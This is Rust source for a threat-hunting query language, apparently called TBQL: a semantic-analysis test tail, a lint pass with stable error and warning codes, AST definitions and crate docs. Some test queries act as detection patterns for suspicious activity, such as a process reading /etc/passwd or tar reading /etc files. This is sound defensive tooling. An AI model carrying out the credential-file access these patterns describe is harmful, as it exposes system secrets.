        assert_eq!(a.before.len(), 7);
        assert_eq!(a.pattern_index("evt8"), Some(7));
    }

    #[test]
    fn auto_pattern_names() {
        let a = analyzed("proc p read file f proc p write file g return p");
        assert_eq!(a.pattern_ids, vec!["evt1".to_string(), "evt2".to_string()]);
    }

    #[test]
    fn auto_names_avoid_collisions() {
        let a = analyzed("proc p read file f as evt1 proc p write file g return p");
        assert_eq!(a.pattern_ids[0], "evt1");
        assert_ne!(a.pattern_ids[1], "evt1");
    }

    #[test]
    fn subject_must_be_proc() {
        let err = analyze_err("file x read file f return f");
        assert!(err.message.contains("must be a proc"));
    }

    #[test]
    fn object_type_follows_operation() {
        let a = analyzed("proc p connect ip c return c");
        assert_eq!(a.entities["c"].ty, EntityType::Ip);
        let err = analyze_err("proc p connect file f return f");
        assert!(err.message.contains("targets ip"), "{}", err.message);
        let err = analyze_err("proc p read || connect file f return f");
        assert!(err.message.contains("share one object type"));
    }

    #[test]
    fn entity_reuse_type_conflicts_detected() {
        // f used as file object then as connection object.
        let err = analyze_err("proc p read file f proc p connect f return p");
        assert!(err.message.contains("used as ip"), "{}", err.message);
    }

    #[test]
    fn invalid_attribute_rejected() {
        let err = analyze_err(r#"proc p[name = "x"] read file f return p"#);
        assert!(err.message.contains("no attribute `name`"));
        let err = analyze_err("proc p read file f return f.exename");
        assert!(err.message.contains("no attribute `exename`"));
    }

    #[test]
    fn numeric_coercion() {
        let a = analyzed(r#"proc p[pid = "42"] read file f return p"#);
        assert_eq!(
            a.entities["p"].filters,
            vec![Expr::Cmp {
                attr: "pid".into(),
                op: CmpOp::Eq,
                value: Lit::Int(42)
            }]
        );
        let err = analyze_err(r#"proc p[pid = "forty"] read file f return p"#);
        assert!(err.message.contains("is not a number"));
    }

    #[test]
    fn temporal_validation() {
        let err = analyze_err("proc p read file f as e1 with e1 before ghost return p");
        assert!(err.message.contains("unknown pattern"));
        let err = analyze_err("proc p read file f as e1 with e1 before e1 return p");
        assert!(err.message.contains("cannot precede itself"));
        // Ordering cycles pass analysis; the lint pass's DBM rejects
        // them with a stable diagnostic code (see `lint::tests`).
        analyzed(
            "proc p read file f as e1 proc p write file g as e2 \
             with e1 before e2, e2 before e1 return p",
        );
    }

    #[test]
    fn after_normalized_to_before() {
        let a = analyzed(
            "proc p read file f as e1 proc p write file g as e2 with e2 after e1 return p",
        );
        assert_eq!(a.before, vec![("e1".to_string(), "e2".to_string())]);
    }

    #[test]
    fn duplicate_pattern_names_rejected() {
        let err = analyze_err("proc p read file f as e1 proc p write file g as e1 return p");
        assert!(err.message.contains("duplicate pattern name"));
    }

    #[test]
    fn return_unknown_entity_rejected() {
        let err = analyze_err("proc p read file f return ghost");
        assert!(err.message.contains("unknown entity"));
    }

    #[test]
    fn path_bounds_validated() {
        let err = analyze_err("proc p ~>(0~3)[read] file f return p");
        assert!(err.message.contains("≥ 1"));
        let err = analyze_err("proc p ~>(4~2)[read] file f return p");
        assert!(err.message.contains("reversed"));
    }

    #[test]
    fn filters_merge_across_mentions() {
        let a = analyzed(
            r#"proc p["%/bin/tar%"] read file f proc p[owner = "root"] write file g return p"#,
        );
        assert_eq!(a.entities["p"].filters.len(), 2);
    }
}
