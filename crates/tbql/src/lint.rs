//! Static query lints over analyzed TBQL.
//!
//! The lint pass runs after semantic analysis and before plan
//! compilation. It produces structured [`Diagnostic`] values with stable
//! codes so services and tooling can match on them:
//!
//! | code   | severity | meaning                                              |
//! |--------|----------|------------------------------------------------------|
//! | `E001` | error    | temporal constraints are infeasible (ordering cycle, empty window, window-vs-ordering conflict) |
//! | `E002` | error    | an entity's merged attribute filters can never all hold |
//! | `W001` | warning  | entity variable is unconstrained: single mention, no filter, not returned |
//! | `W002` | warning  | pattern shares no entities or ordering with any returned entity (pure cross product) |
//! | `W003` | warning  | tautological predicate (e.g. `like "%"`) matches every value |
//! | `W004` | warning  | temporal constraint already implied by the DBM closure of the others |
//!
//! Error-level diagnostics make the query a *rejection*: the engine's
//! `compile` refuses it, and the service layer surfaces
//! `ServiceError::Infeasible` without ever touching the store. Warnings
//! ride along with the compiled plan (the plan cache stores the report)
//! and never block execution.

use crate::analyze::AnalyzedQuery;
use crate::ast::{CmpOp, EntityRef, Expr, Lit, Pattern, TemporalRel};
use crate::dbm::{analyze_temporal, TemporalAnalysis};
use crate::error::{render_with_source, Span};
use std::collections::{BTreeMap, HashSet};

/// Diagnostic severity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// Advisory: the query runs, but likely not as intended.
    Warning,
    /// The query can never produce a match; it is rejected at compile
    /// time.
    Error,
}

impl Severity {
    /// Lowercase label (`"warning"` / `"error"`).
    pub fn label(self) -> &'static str {
        match self {
            Severity::Warning => "warning",
            Severity::Error => "error",
        }
    }
}

/// One structured lint finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Diagnostic {
    /// Stable code (`E0xx` errors, `W0xx` warnings).
    pub code: &'static str,
    /// Severity.
    pub severity: Severity,
    /// Source location.
    pub span: Span,
    /// Human-readable explanation.
    pub message: String,
}

impl Diagnostic {
    /// Renders the diagnostic with a source excerpt and caret line.
    pub fn render(&self, source: &str) -> String {
        let label = format!("{}[{}]", self.severity.label(), self.code);
        render_with_source(&label, &self.message, self.span, source)
    }
}

impl std::fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}[{}]: {}",
            self.severity.label(),
            self.code,
            self.message
        )
    }
}

/// The lint pass's output: diagnostics plus the temporal analysis the
/// compiler reuses for scan clamping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LintReport {
    /// Findings, errors first, then in source order.
    pub diagnostics: Vec<Diagnostic>,
    /// DBM feasibility and tightened per-pattern bounds.
    pub temporal: TemporalAnalysis,
}

impl LintReport {
    /// `true` when any diagnostic is error-level.
    pub fn has_errors(&self) -> bool {
        self.diagnostics
            .iter()
            .any(|d| d.severity == Severity::Error)
    }

    /// Error-level diagnostics.
    pub fn errors(&self) -> impl Iterator<Item = &Diagnostic> {
        self.diagnostics
            .iter()
            .filter(|d| d.severity == Severity::Error)
    }

    /// Warning-level diagnostics.
    pub fn warnings(&self) -> impl Iterator<Item = &Diagnostic> {
        self.diagnostics
            .iter()
            .filter(|d| d.severity == Severity::Warning)
    }

    /// Renders every diagnostic against the query source.
    pub fn render(&self, source: &str) -> String {
        self.diagnostics
            .iter()
            .map(|d| d.render(source))
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// Runs every lint over an analyzed query.
pub fn lint(aq: &AnalyzedQuery) -> LintReport {
    let temporal = analyze_temporal(aq);
    let mut diagnostics = Vec::new();
    lint_temporal(aq, &temporal, &mut diagnostics);
    lint_filters(aq, &mut diagnostics);
    lint_unused_variables(aq, &mut diagnostics);
    lint_dead_patterns(aq, &mut diagnostics);
    // Errors first, then source order, then code — a stable presentation
    // independent of lint execution order.
    diagnostics.sort_by_key(|d| (std::cmp::Reverse(d.severity), d.span.start, d.code));
    LintReport {
        diagnostics,
        temporal,
    }
}

/// E001 / W004: DBM feasibility and redundancy findings.
fn lint_temporal(aq: &AnalyzedQuery, temporal: &TemporalAnalysis, out: &mut Vec<Diagnostic>) {
    if !temporal.feasible {
        // Attribute empty windows precisely; fall back to the temporal
        // clause for ordering/window conflicts.
        let mut empty_window = false;
        for (i, pat) in aq.query.patterns.iter().enumerate() {
            let window = match pat {
                Pattern::Event(e) => e.window,
                Pattern::Path(p) => p.window,
            };
            if let Some(w) = window {
                if w.lo > w.hi {
                    empty_window = true;
                    out.push(Diagnostic {
                        code: "E001",
                        severity: Severity::Error,
                        span: pat.span(),
                        message: format!(
                            "pattern `{}` window [{}, {}] is empty (lower bound exceeds upper \
                             bound); no event can fall inside it",
                            aq.pattern_ids[i], w.lo, w.hi
                        ),
                    });
                }
            }
        }
        if !empty_window {
            let span = aq
                .query
                .temporal
                .iter()
                .map(|t| t.span)
                .reduce(Span::merge)
                .unwrap_or_default();
            out.push(Diagnostic {
                code: "E001",
                severity: Severity::Error,
                span,
                message: "temporal constraints are infeasible: no timestamps satisfy the \
                          `before` ordering together with the window bounds"
                    .to_string(),
            });
        }
        return;
    }
    for &k in &temporal.redundant_before {
        let Some(tc) = aq.query.temporal.get(k) else {
            continue;
        };
        let rel = match tc.rel {
            TemporalRel::Before => "before",
            TemporalRel::After => "after",
        };
        out.push(Diagnostic {
            code: "W004",
            severity: Severity::Warning,
            span: tc.span,
            message: format!(
                "`{} {} {}` is already implied by the remaining temporal constraints",
                tc.left, rel, tc.right
            ),
        });
    }
}

/// Flattens a conjunction of filter expressions into its `Cmp` leaves,
/// recursing through `And` (an `Or` leg is not a conjunct and is
/// skipped).
fn conjunct_cmps<'a>(filters: &'a [Expr], out: &mut Vec<&'a Expr>) {
    for f in filters {
        match f {
            Expr::Cmp { .. } => out.push(f),
            Expr::And(legs) => conjunct_cmps(legs, out),
            Expr::Or(_) => {}
        }
    }
}

/// Interval/value-set satisfiability for one attribute's conjuncts.
struct AttrState<'a> {
    lo: i128,
    hi: i128,
    int_eq: Option<i64>,
    int_ne: HashSet<i64>,
    str_eq: Option<&'a str>,
    str_ne: HashSet<&'a str>,
}

impl<'a> AttrState<'a> {
    fn new() -> AttrState<'a> {
        AttrState {
            lo: i128::MIN,
            hi: i128::MAX,
            int_eq: None,
            int_ne: HashSet::new(),
            str_eq: None,
            str_ne: HashSet::new(),
        }
    }

    /// Folds one comparison in; returns a conflict description when the
    /// conjunction becomes unsatisfiable.
    fn add(&mut self, op: CmpOp, value: &'a Lit) -> Option<String> {
        match value {
            Lit::Int(v) => {
                let v = *v;
                match op {
                    CmpOp::Eq => {
                        if let Some(prev) = self.int_eq {
                            if prev != v {
                                return Some(format!("= {prev} conflicts with = {v}"));
                            }
                        }
                        self.int_eq = Some(v);
                    }
                    CmpOp::Ne => {
                        self.int_ne.insert(v);
                    }
                    CmpOp::Lt => self.hi = self.hi.min(v as i128 - 1),
                    CmpOp::Le => self.hi = self.hi.min(v as i128),
                    CmpOp::Gt => self.lo = self.lo.max(v as i128 + 1),
                    CmpOp::Ge => self.lo = self.lo.max(v as i128),
                    CmpOp::Like => {}
                }
            }
            Lit::Str(s) => {
                // LIKE without wildcards is an exact match.
                let effective = match op {
                    CmpOp::Like if !s.contains('%') && !s.contains('_') => CmpOp::Eq,
                    other => other,
                };
                match effective {
                    CmpOp::Eq => {
                        if let Some(prev) = self.str_eq {
                            if prev != s {
                                return Some(format!("= \"{prev}\" conflicts with = \"{s}\""));
                            }
                        }
                        self.str_eq = Some(s);
                    }
                    CmpOp::Ne => {
                        self.str_ne.insert(s);
                    }
                    _ => {}
                }
            }
        }
        self.conflict()
    }

    fn conflict(&self) -> Option<String> {
        if let Some(v) = self.int_eq {
            if (v as i128) < self.lo || (v as i128) > self.hi {
                return Some(format!("= {v} falls outside the required range"));
            }
            if self.int_ne.contains(&v) {
                return Some(format!("= {v} conflicts with != {v}"));
            }
        }
        if self.lo > self.hi {
            return Some("range constraints are empty".to_string());
        }
        if self.lo == self.hi && self.int_ne.contains(&(self.lo as i64)) {
            return Some(format!(
                "range pins {} but != {} excludes it",
                self.lo, self.lo
            ));
        }
        if let Some(s) = self.str_eq {
            if self.str_ne.contains(s) {
                return Some(format!("= \"{s}\" conflicts with != \"{s}\""));
            }
        }
        None
    }
}

/// E002 / W003: per-entity merged-filter satisfiability and tautologies.
fn lint_filters(aq: &AnalyzedQuery, out: &mut Vec<Diagnostic>) {
    for (var, info) in &aq.entities {
        let span = first_mention(aq, var).map(|e| e.span).unwrap_or_default();
        // E002: conjunction of Cmp leaves unsatisfiable.
        let mut cmps = Vec::new();
        conjunct_cmps(&info.filters, &mut cmps);
        let mut by_attr: BTreeMap<&str, AttrState<'_>> = BTreeMap::new();
        'outer: for cmp in &cmps {
            let Expr::Cmp { attr, op, value } = cmp else {
                continue;
            };
            let state = by_attr.entry(attr.as_str()).or_insert_with(AttrState::new);
            if let Some(detail) = state.add(*op, value) {
                out.push(Diagnostic {
                    code: "E002",
                    severity: Severity::Error,
                    span,
                    message: format!(
                        "filters on `{var}` can never match: attribute `{attr}` {detail}"
                    ),
                });
                break 'outer;
            }
        }
        // W003: a whole filter leg that is always true.
        for f in &info.filters {
            if is_tautology(f) {
                out.push(Diagnostic {
                    code: "W003",
                    severity: Severity::Warning,
                    span,
                    message: format!(
                        "filter on `{var}` is always true (a `%`-only pattern matches every \
                         value) and can be dropped"
                    ),
                });
                break;
            }
        }
    }
}

/// `true` when the expression matches every entity.
fn is_tautology(e: &Expr) -> bool {
    match e {
        Expr::Cmp {
            op: CmpOp::Like,
            value: Lit::Str(s),
            ..
        } => !s.is_empty() && s.chars().all(|c| c == '%'),
        Expr::Cmp { .. } => false,
        Expr::And(legs) => legs.iter().all(is_tautology),
        Expr::Or(legs) => legs.iter().any(is_tautology),
    }
}

/// First pattern mention (subject or object) of an entity variable.
fn first_mention<'a>(aq: &'a AnalyzedQuery, var: &str) -> Option<&'a EntityRef> {
    aq.query
        .patterns
        .iter()
        .find_map(|p| [p.subject(), p.object()].into_iter().find(|e| e.id == var))
}

/// W001: entity variables that constrain nothing.
fn lint_unused_variables(aq: &AnalyzedQuery, out: &mut Vec<Diagnostic>) {
    let returned: HashSet<&str> = aq.returns.iter().map(|(v, _)| v.as_str()).collect();
    for (var, info) in &aq.entities {
        let mentions: usize = aq
            .query
            .patterns
            .iter()
            .map(|p| {
                [p.subject(), p.object()]
                    .iter()
                    .filter(|e| e.id == *var)
                    .count()
            })
            .sum();
        if mentions == 1 && info.filters.is_empty() && !returned.contains(var.as_str()) {
            let span = first_mention(aq, var).map(|e| e.span).unwrap_or_default();
            out.push(Diagnostic {
                code: "W001",
                severity: Severity::Warning,
                span,
                message: format!(
                    "entity `{var}` is unconstrained: it has no filter, is not shared with \
                     another pattern, and is not returned"
                ),
            });
        }
    }
}

/// W002: patterns with no entity or ordering connection to any returned
/// entity — they join as pure cross products.
fn lint_dead_patterns(aq: &AnalyzedQuery, out: &mut Vec<Diagnostic>) {
    let n = aq.query.patterns.len();
    if n <= 1 {
        return;
    }
    // Adjacency: shared entity variable or temporal constraint.
    let mut adj = vec![Vec::new(); n];
    for i in 0..n {
        for j in (i + 1)..n {
            let (pi, pj) = (&aq.query.patterns[i], &aq.query.patterns[j]);
            let shares = [pi.subject().id.as_str(), pi.object().id.as_str()]
                .iter()
                .any(|v| *v == pj.subject().id || *v == pj.object().id);
            if shares {
                adj[i].push(j);
                adj[j].push(i);
            }
        }
    }
    for (a, b) in &aq.before {
        if let (Some(ia), Some(ib)) = (aq.pattern_index(a), aq.pattern_index(b)) {
            adj[ia].push(ib);
            adj[ib].push(ia);
        }
    }
    // Seed liveness from patterns mentioning a returned entity.
    let returned: HashSet<&str> = aq.returns.iter().map(|(v, _)| v.as_str()).collect();
    let mut live = vec![false; n];
    let mut queue: Vec<usize> = (0..n)
        .filter(|&i| {
            let p = &aq.query.patterns[i];
            returned.contains(p.subject().id.as_str()) || returned.contains(p.object().id.as_str())
        })
        .collect();
    for &i in &queue {
        live[i] = true;
    }
    while let Some(i) = queue.pop() {
        for &j in &adj[i] {
            if !live[j] {
                live[j] = true;
                queue.push(j);
            }
        }
    }
    for i in (0..n).filter(|&i| !live[i]) {
        out.push(Diagnostic {
            code: "W002",
            severity: Severity::Warning,
            span: aq.query.patterns[i].span(),
            message: format!(
                "pattern `{}` shares no entities or temporal ordering with any returned \
                 entity; it only gates or multiplies results",
                aq.pattern_ids[i]
            ),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze;
    use crate::parser::{parse_query, FIG2_TBQL};

    fn report(tbql: &str) -> LintReport {
        lint(&analyze(&parse_query(tbql).expect("parse")).expect("analyze"))
    }

    fn codes(r: &LintReport) -> Vec<&'static str> {
        r.diagnostics.iter().map(|d| d.code).collect()
    }

    #[test]
    fn clean_query_has_no_diagnostics() {
        let r = report(r#"proc p["%tar%"] read file f["/etc/%"] as e1 return p, f"#);
        assert!(r.diagnostics.is_empty(), "{:?}", r.diagnostics);
        assert!(r.temporal.feasible);
        assert!(!r.has_errors());
    }

    #[test]
    fn fig2_is_clean() {
        let r = report(FIG2_TBQL);
        assert!(!r.has_errors(), "{:?}", r.diagnostics);
    }

    #[test]
    fn ordering_cycle_is_e001() {
        let r = report(
            "proc p read file f as e1 proc p write file g as e2 \
             with e1 before e2, e2 before e1 return p, f, g",
        );
        assert!(r.has_errors());
        assert_eq!(codes(&r), vec!["E001"]);
        assert!(!r.temporal.feasible);
    }

    #[test]
    fn empty_window_is_e001_with_pattern_span() {
        let src = "proc p read file f as e1 window [900, 100] return p, f";
        let r = report(src);
        assert_eq!(codes(&r), vec!["E001"]);
        let d = &r.diagnostics[0];
        assert!(d.message.contains("window [900, 100] is empty"), "{d}");
        assert!(d.render(src).contains("^"));
    }

    #[test]
    fn window_ordering_conflict_is_e001() {
        let r = report(
            "proc p read file f as e1 window [300, 400] \
             proc p write file g as e2 window [100, 200] \
             with e1 before e2 return p, f, g",
        );
        assert_eq!(codes(&r), vec!["E001"]);
        assert!(r.diagnostics[0].message.contains("infeasible"));
    }

    #[test]
    fn contradictory_string_filters_are_e002() {
        let r = report(
            r#"proc p["/bin/tar"] read file f
               proc p["/bin/gzip"] write file g
               return p, f, g"#,
        );
        assert_eq!(codes(&r), vec!["E002"]);
        assert!(r.diagnostics[0].message.contains("exename"));
    }

    #[test]
    fn contradictory_numeric_range_is_e002() {
        let r = report(r#"proc p[pid > 10 && pid < 5] read file f return p, f"#);
        assert_eq!(codes(&r), vec!["E002"]);
        let r = report(r#"proc p[pid = 4 && pid >= 9] read file f return p, f"#);
        assert_eq!(codes(&r), vec!["E002"]);
        let r = report(r#"proc p[pid = 4 && pid != 4] read file f return p, f"#);
        assert_eq!(codes(&r), vec!["E002"]);
    }

    #[test]
    fn eq_vs_ne_string_is_e002() {
        let r = report(r#"proc p[owner = "root" && owner != "root"] read file f return p, f"#);
        assert_eq!(codes(&r), vec!["E002"]);
    }

    #[test]
    fn satisfiable_ranges_are_clean() {
        let r = report(r#"proc p[pid > 10 && pid < 50 && pid != 30] read file f return p, f"#);
        assert!(!r.has_errors(), "{:?}", r.diagnostics);
        // Disjunctions are not conjuncts; never a false positive.
        let r = report(r#"proc p[owner = "root" || owner = "admin"] read file f return p, f"#);
        assert!(!r.has_errors(), "{:?}", r.diagnostics);
    }

    #[test]
    fn unused_variable_is_w001() {
        let r = report("proc p read file f return p");
        assert_eq!(codes(&r), vec!["W001"]);
        assert!(r.diagnostics[0].message.contains("`f`"));
        assert!(!r.has_errors());
    }

    #[test]
    fn returned_or_filtered_or_shared_variables_are_used() {
        // Returned.
        assert!(report("proc p read file f return p, f")
            .diagnostics
            .is_empty());
        // Filtered.
        assert!(report(r#"proc p read file f["/etc/passwd"] return p"#)
            .diagnostics
            .is_empty());
        // Shared across patterns.
        assert!(report("proc p read file f proc q write file f return p, q")
            .diagnostics
            .is_empty());
    }

    #[test]
    fn disconnected_pattern_is_w002() {
        let r = report(
            r#"proc p["%tar%"] read file f
               proc q["%ssh%"] write file g["/tmp/%"]
               return p, f"#,
        );
        assert_eq!(codes(&r), vec!["W002"]);
        assert!(r.diagnostics[0].message.contains("`evt2`"));
    }

    #[test]
    fn temporal_link_keeps_pattern_live() {
        let r = report(
            r#"proc p["%tar%"] read file f as e1
               proc q["%ssh%"] write file g["/tmp/%"] as e2
               with e1 before e2
               return p, f"#,
        );
        assert!(codes(&r).is_empty(), "{:?}", r.diagnostics);
    }

    #[test]
    fn tautological_like_is_w003() {
        let r = report(r#"proc p["%"] read file f return p, f"#);
        assert_eq!(codes(&r), vec!["W003"]);
    }

    #[test]
    fn redundant_transitive_before_is_w004() {
        let r = report(
            "proc p read file f as e1 proc p write file g as e2 \
             proc p execute file h as e3 \
             with e1 before e2, e2 before e3, e1 before e3 \
             return p, f, g, h",
        );
        assert_eq!(codes(&r), vec!["W004"]);
        assert!(r.diagnostics[0].message.contains("e1 before e3"));
    }

    #[test]
    fn errors_sort_before_warnings() {
        let r = report(
            "proc p read file f as e1 window [900, 100] \
             proc p write file g \
             return p, f",
        );
        let cs = codes(&r);
        assert_eq!(cs[0], "E001");
        assert!(cs.contains(&"W001"), "{cs:?}"); // g unconstrained
        assert!(r.has_errors());
        assert_eq!(r.errors().count(), 1);
        assert_eq!(r.warnings().count(), cs.len() - 1);
    }

    #[test]
    fn display_and_render_are_stable() {
        let src = "proc p read file f return p";
        let r = report(src);
        let d = &r.diagnostics[0];
        assert_eq!(d.to_string(), format!("warning[W001]: {}", d.message));
        assert!(r.render(src).contains("warning[W001]"));
    }
}
