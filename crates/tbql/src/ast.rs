//! TBQL abstract syntax tree.

use crate::error::Span;
use std::fmt;

/// Entity types (paper §II-A: files, processes, network connections).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EntityType {
    /// Process (`proc`).
    Proc,
    /// File (`file`).
    File,
    /// Network connection (`ip`).
    Ip,
}

impl EntityType {
    /// TBQL keyword.
    pub fn keyword(self) -> &'static str {
        match self {
            EntityType::Proc => "proc",
            EntityType::File => "file",
            EntityType::Ip => "ip",
        }
    }

    /// The default attribute (paper §II-D): `exename` for processes,
    /// `name` for files, `dstip` for connections.
    pub fn default_attr(self) -> &'static str {
        match self {
            EntityType::Proc => "exename",
            EntityType::File => "name",
            EntityType::Ip => "dstip",
        }
    }

    /// Attribute names valid for this entity type.
    pub fn valid_attrs(self) -> &'static [&'static str] {
        match self {
            EntityType::Proc => &["exename", "pid", "cmdline", "owner"],
            EntityType::File => &["name"],
            EntityType::Ip => &["srcip", "srcport", "dstip", "dstport", "protocol"],
        }
    }
}

impl fmt::Display for EntityType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.keyword())
    }
}

/// Operation names valid in TBQL (mirrors the auditing layer).
pub const OPERATIONS: &[(&str, EntityType)] = &[
    ("read", EntityType::File),
    ("write", EntityType::File),
    ("open", EntityType::File),
    ("close", EntityType::File),
    ("execute", EntityType::File),
    ("rename", EntityType::File),
    ("unlink", EntityType::File),
    ("chmod", EntityType::File),
    ("chown", EntityType::File),
    ("mmap", EntityType::File),
    ("fork", EntityType::Proc),
    ("clone", EntityType::Proc),
    ("kill", EntityType::Proc),
    ("setuid", EntityType::Proc),
    ("connect", EntityType::Ip),
    ("accept", EntityType::Ip),
    ("send", EntityType::Ip),
    ("recv", EntityType::Ip),
];

/// Looks up the object entity type of an operation name.
pub fn operation_object_type(op: &str) -> Option<EntityType> {
    OPERATIONS
        .iter()
        .find(|(name, _)| *name == op)
        .map(|(_, ty)| *ty)
}

/// Comparison operators in filters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CmpOp {
    /// `=` (LIKE semantics when the literal contains `%`/`_`).
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// explicit `like`
    Like,
}

impl CmpOp {
    /// TBQL spelling.
    pub fn text(self) -> &'static str {
        match self {
            CmpOp::Eq => "=",
            CmpOp::Ne => "!=",
            CmpOp::Lt => "<",
            CmpOp::Le => "<=",
            CmpOp::Gt => ">",
            CmpOp::Ge => ">=",
            CmpOp::Like => "like",
        }
    }
}

/// Literal values in filters.
#[derive(Debug, Clone, PartialEq)]
pub enum Lit {
    /// String literal.
    Str(String),
    /// Integer literal.
    Int(i64),
}

impl fmt::Display for Lit {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Lit::Str(s) => write!(f, "\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\"")),
            Lit::Int(i) => write!(f, "{i}"),
        }
    }
}

/// Filter expressions over one entity's attributes.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// `attr <op> literal`
    Cmp {
        /// Attribute name.
        attr: String,
        /// Operator.
        op: CmpOp,
        /// Right-hand literal.
        value: Lit,
    },
    /// Conjunction (`&&`).
    And(Vec<Expr>),
    /// Disjunction (`||`).
    Or(Vec<Expr>),
}

/// A filter attached to an entity mention.
#[derive(Debug, Clone, PartialEq)]
pub enum Filter {
    /// Bare-string sugar: filter on the entity's default attribute.
    Default(String),
    /// Full expression.
    Expr(Expr),
}

/// An entity mention in a pattern.
#[derive(Debug, Clone, PartialEq)]
pub struct EntityRef {
    /// Declared type (`None` for bare reuse like `f2`).
    pub ty: Option<EntityType>,
    /// Entity variable name.
    pub id: String,
    /// Attribute filter, if any.
    pub filter: Option<Filter>,
    /// Source span.
    pub span: Span,
}

/// Per-pattern time window: event start/end must fall in `[lo, hi]`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TimeWindow {
    /// Lower bound (ns).
    pub lo: u64,
    /// Upper bound (ns).
    pub hi: u64,
}

/// An event pattern: `subject op object [as id] [window [lo, hi]]`.
#[derive(Debug, Clone, PartialEq)]
pub struct EventPattern {
    /// Pattern name from `as` (auto-named `evtN` by analysis if absent).
    pub id: Option<String>,
    /// Subject entity (a process).
    pub subject: EntityRef,
    /// Operation alternatives (`read || write` ⇒ two entries).
    pub ops: Vec<String>,
    /// Object entity.
    pub object: EntityRef,
    /// Optional time window.
    pub window: Option<TimeWindow>,
    /// Source span.
    pub span: Span,
}

/// A variable-length path pattern:
/// `subject ~>(min~max)[op] object [as id]`.
#[derive(Debug, Clone, PartialEq)]
pub struct PathPattern {
    /// Pattern name from `as`.
    pub id: Option<String>,
    /// Source entity.
    pub subject: EntityRef,
    /// Minimum hops (`None` ⇒ 1).
    pub min_hops: Option<u32>,
    /// Maximum hops (`None` ⇒ engine default).
    pub max_hops: Option<u32>,
    /// Operation of the final hop.
    pub last_op: String,
    /// Destination entity.
    pub object: EntityRef,
    /// Optional time window.
    pub window: Option<TimeWindow>,
    /// Source span.
    pub span: Span,
}

/// Any pattern.
#[derive(Debug, Clone, PartialEq)]
pub enum Pattern {
    /// Single-event pattern.
    Event(EventPattern),
    /// Variable-length path pattern.
    Path(PathPattern),
}

impl Pattern {
    /// The pattern's `as` name, if present.
    pub fn id(&self) -> Option<&str> {
        match self {
            Pattern::Event(e) => e.id.as_deref(),
            Pattern::Path(p) => p.id.as_deref(),
        }
    }

    /// Subject entity reference.
    pub fn subject(&self) -> &EntityRef {
        match self {
            Pattern::Event(e) => &e.subject,
            Pattern::Path(p) => &p.subject,
        }
    }

    /// Object entity reference.
    pub fn object(&self) -> &EntityRef {
        match self {
            Pattern::Event(e) => &e.object,
            Pattern::Path(p) => &p.object,
        }
    }

    /// Source span.
    pub fn span(&self) -> Span {
        match self {
            Pattern::Event(e) => e.span,
            Pattern::Path(p) => p.span,
        }
    }
}

/// Temporal relations in the `with` clause.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TemporalRel {
    /// Left pattern ends before right pattern starts.
    Before,
    /// Left pattern starts after right pattern ends.
    After,
}

/// A temporal constraint `evtA before evtB`.
#[derive(Debug, Clone, PartialEq)]
pub struct TemporalConstraint {
    /// Left event-pattern name.
    pub left: String,
    /// Relation.
    pub rel: TemporalRel,
    /// Right event-pattern name.
    pub right: String,
    /// Source span.
    pub span: Span,
}

/// One item of the `return` clause.
#[derive(Debug, Clone, PartialEq)]
pub struct ReturnItem {
    /// Entity variable.
    pub entity: String,
    /// Attribute (`None` ⇒ the entity's default attribute).
    pub attr: Option<String>,
    /// Source span.
    pub span: Span,
}

/// The `return` clause.
#[derive(Debug, Clone, PartialEq)]
pub struct ReturnClause {
    /// Deduplicate result rows.
    pub distinct: bool,
    /// Projected items.
    pub items: Vec<ReturnItem>,
}

/// A complete TBQL query.
#[derive(Debug, Clone, PartialEq)]
pub struct Query {
    /// Patterns, in declaration order.
    pub patterns: Vec<Pattern>,
    /// Temporal constraints from `with`.
    pub temporal: Vec<TemporalConstraint>,
    /// Projection.
    pub ret: ReturnClause,
}

impl Query {
    /// Number of event + path patterns.
    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn operation_types() {
        assert_eq!(operation_object_type("read"), Some(EntityType::File));
        assert_eq!(operation_object_type("connect"), Some(EntityType::Ip));
        assert_eq!(operation_object_type("fork"), Some(EntityType::Proc));
        assert_eq!(operation_object_type("teleport"), None);
    }

    #[test]
    fn default_attrs() {
        assert_eq!(EntityType::Proc.default_attr(), "exename");
        assert_eq!(EntityType::File.default_attr(), "name");
        assert_eq!(EntityType::Ip.default_attr(), "dstip");
        for ty in [EntityType::Proc, EntityType::File, EntityType::Ip] {
            assert!(ty.valid_attrs().contains(&ty.default_attr()));
        }
    }

    #[test]
    fn lit_display_escapes() {
        assert_eq!(Lit::Str("a\"b".into()).to_string(), r#""a\"b""#);
        assert_eq!(Lit::Int(7).to_string(), "7");
    }

    #[test]
    fn cmp_op_text() {
        assert_eq!(CmpOp::Like.text(), "like");
        assert_eq!(CmpOp::Ne.text(), "!=");
    }
}
