//! # threatraptor-tbql
//!
//! The **Threat Behavior Query Language** (paper §II-D): a declarative
//! DSL that "treats system entities and events as first-class citizens
//! and provides primitives to easily specify multi-step system
//! activities".
//!
//! Language features implemented (all from the paper):
//!
//! * event patterns `⟨subject, operation, object⟩` with entity types
//!   (`proc` / `file` / `ip`), identifiers, and attribute filters;
//! * default-attribute syntactic sugar: `proc p1["%/bin/tar%"]` ≡
//!   `proc p1[exename = "%/bin/tar%"]`, `return p1` ≡ `return p1.exename`;
//! * entity-ID reuse across patterns ⇒ implicit attribute relationships
//!   (`evt1.srcid = evt2.srcid`);
//! * operation expressions (`read || write`) and comparison / logical
//!   operators in filters;
